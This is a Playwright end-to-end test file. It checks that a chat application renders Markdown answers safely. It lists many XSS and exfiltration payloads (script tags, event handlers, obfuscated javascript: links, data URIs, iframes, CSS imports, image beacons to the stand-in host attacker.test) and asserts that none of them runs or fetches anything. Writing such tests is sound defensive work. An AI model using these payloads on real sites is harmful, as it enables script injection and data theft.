import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openShareWorld, type ShareWorld } from "../e2e/share/share-world.ts";
import { startBrowser } from "../support/chromium.ts";
import { engines } from "../support/engines.ts";

/** Where an attack would call home; nobody listens, and nobody may try. */
const ELSEWHERE = "http://attacker.test";

const ATTACKS: Record<string, string> = {
  "script element": `<script>pwned('script')</script>`,
  "script in a block of HTML": `<div>\n<script src="${ELSEWHERE}/a.js"></script>\n</div>`,
  "event handler": `<img src=x onerror="pwned('handler')"> <body onload=pwned(1)> <svg/onload=pwned(2)>`,
  "event handler inside words": `hello <b onmouseover="pwned('b')" style="position:fixed;inset:0">there</b>`,
  "javascript link": `[press](javascript:pwned('link'))`,
  "javascript link, spelled oddly": `[a](JaVaScRiPt:pwned(1)) [b](java\tscript:pwned(2)) [c](javascript&#58;pwned(3)) [d](&#106;avascript:pwned(4))`,
  "javascript autolink": `<javascript:pwned('auto')> javascript:pwned(1)`,
  "javascript by reference": `[ref]\n\n[ref]: javascript:pwned('ref') "title"`,
  "data link": `[data](data:text/html,<script>pwned('data')</script>) [x](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)`,
  "vbscript and file links": `[v](vbscript:msgbox(1)) [f](file:///etc/passwd) [b](blob:${ELSEWHERE}/x) [s](ws://attacker.test)`,
  "link that leaves its attribute": `[q](https://attacker.test/"onmouseover="pwned('q') "t\\" onclick=\\"pwned(1)")`,
  "image beacon": `![beacon](${ELSEWHERE}/beacon.png?secret=1) <img src="${ELSEWHERE}/b.png"> ![](//attacker.test/c.png)`,
  "image beacon by reference": `![one][two]\n\n[two]: ${ELSEWHERE}/two.png`,
  "image of this server": `![state](/sign-out) ![x](data:image/svg+xml,<svg onload=pwned(1)>)`,
  frame: `<iframe src="${ELSEWHERE}"></iframe><iframe srcdoc="<script>parent.pwned('frame')</script>"></iframe><object data="${ELSEWHERE}"></object><embed src="${ELSEWHERE}">`,
  "form and base": `<form action="${ELSEWHERE}"><button>go</button></form><base href="${ELSEWHERE}/"><meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  "style and link elements": `<style>@import url(${ELSEWHERE}/s.css);*{background:url(${ELSEWHERE}/bg)}</style><link rel=stylesheet href="${ELSEWHERE}/l.css">`,
  mermaid:
    "```mermaid\ngraph TD; A[\"<img src=x onerror=pwned('m')>\"] --> B; click A \"javascript:pwned('m2')\"\n```",
  mathematics: `$$\\href{javascript:pwned('math')}{x} \\includegraphics{${ELSEWHERE}/m.png}$$ \\(\\unicode{<script>pwned(1)</script>}\\)`,
  "code that closes itself":
    "```html\n</code></pre><script>pwned('code')</script>\n```\n`</code><img src=x onerror=pwned(1)>`",
  table: `| a | b |\n|---|---|\n| <img src=x onerror=pwned('t')> | [x](javascript:pwned('t2')) |`,
  "heading and list": `# <script>pwned('h')</script>\n\n- [ ] <img src=x onerror=pwned('l')>\n- ![i](${ELSEWHERE}/i.png)`,
  "template of a framework": `{{constructor.constructor('pwned(1)')()}} \${pwned('t')} <x-app></x-app>`,
  "comment and processing": `<!-- --!><script>pwned('c')</script> --> <?php pwned(1) ?> <![CDATA[<script>pwned(2)</script>]]>`,
  "unicode tricks": `[x](\u202ejavascript:pwned(1)) [y](\u0001javascript:pwned(2)) [z](javascript\u200b:pwned(3))`,
  "quotations without end": `${">".repeat(20_000)} deep`,
  "brackets without end": `${"[".repeat(5_000)}a${"](b)".repeat(5_000)}`,
};

let browser: Browser;
let world: ShareWorld;
/** One page for all of them: what one left behind would hurt the next. */
let page: Page;
/** What the page did that it must not. */
const deeds: string[] = [];

beforeAll(async () => {
  browser = await startBrowser();
  const [engine] = engines;
  if (engine === undefined) throw new Error("there is no engine");
  world = await openShareWorld(engine);
  page = await (await browser.newContext({ locale: "en-GB" })).newPage();
  page.on("dialog", (dialog) => {
    deeds.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(world.server.url)) deeds.push(`request ${request.url()}`);
  });
  page.on("framenavigated", (frame) => {
    if (frame !== page.mainFrame()) deeds.push(`frame ${frame.url()}`);
  });
  page.on("pageerror", (error) => deeds.push(`error ${error.message}`));
  await page.exposeFunction("pwned", (what: string) => deeds.push(`ran ${what}`));
});
afterAll(async () => {
  await browser?.close();
  await world?.close();
});

/** What the page did as somebody read an answer and pointed at every link of it. */
async function readBy(text: string): Promise<string[]> {
  deeds.length = 0;
  const { url } = await world.aLink();
  await page.goto(url);
  const before = page.url();
  world.upstream.replyOnce([text, "\n\nthe end"]);
  await page.getByLabel("Your message").fill("go");
  await page.getByLabel("Your message").press("Enter");
  const answer = page.getByRole("article", { name: "Answer" });
  await answer.getByRole("button", { name: "Good answer" }).waitFor();
  await answer.getByText("the end").first().waitFor();
  for (const link of await answer.locator("a").all()) {
    const href = (await link.getAttribute("href")) ?? "";
    const rel = (await link.getAttribute("rel")) ?? "";
    if (!/^(https?|mailto):/.test(href)) deeds.push(`link ${href}`);
    if (!rel.includes("noopener") || !rel.includes("noreferrer")) deeds.push(`rel ${rel}`);
    await link.dispatchEvent("mouseover");
  }
  const made = await page.evaluate(
    "[...document.querySelectorAll('main *')].flatMap((element) => [/^(script|iframe|img|object|embed|form|style|link|base|meta|video|audio)$/i.test(element.tagName) ? element.tagName : [], [...element.attributes].filter(({ name }) => /^on/.test(name)).map(({ name }) => name)].flat()).flat()",
  );
  deeds.push(...(made as string[]).map((name) => `made ${name}`));
  if (page.url() !== before) deeds.push(`went to ${page.url()}`);
  return [...deeds];
}

describe("an answer with Markdown", () => {
  test.each(Object.entries(ATTACKS))(
    "that tries %s runs nothing, fetches nothing and leads nowhere",
    async (_, text) => {
      expect(await readBy(text)).toEqual([]);
    },
  );

  test("has its links to the web and to mail addresses", async () => {
    const text =
      "[web](https://example.com/a?b=1&c=2) <mailto:a@example.com> ![a picture](https://example.com/p.png)";
    expect(await readBy(text)).toEqual([]);
    const links = page.getByRole("article", { name: "Answer" }).locator("a");
    expect(await links.evaluateAll((found) => found.map((link) => link.getAttribute("href")))).toEqual([
      "https://example.com/a?b=1&c=2",
      "mailto:a@example.com",
      "https://example.com/p.png",
    ]);
  });
});
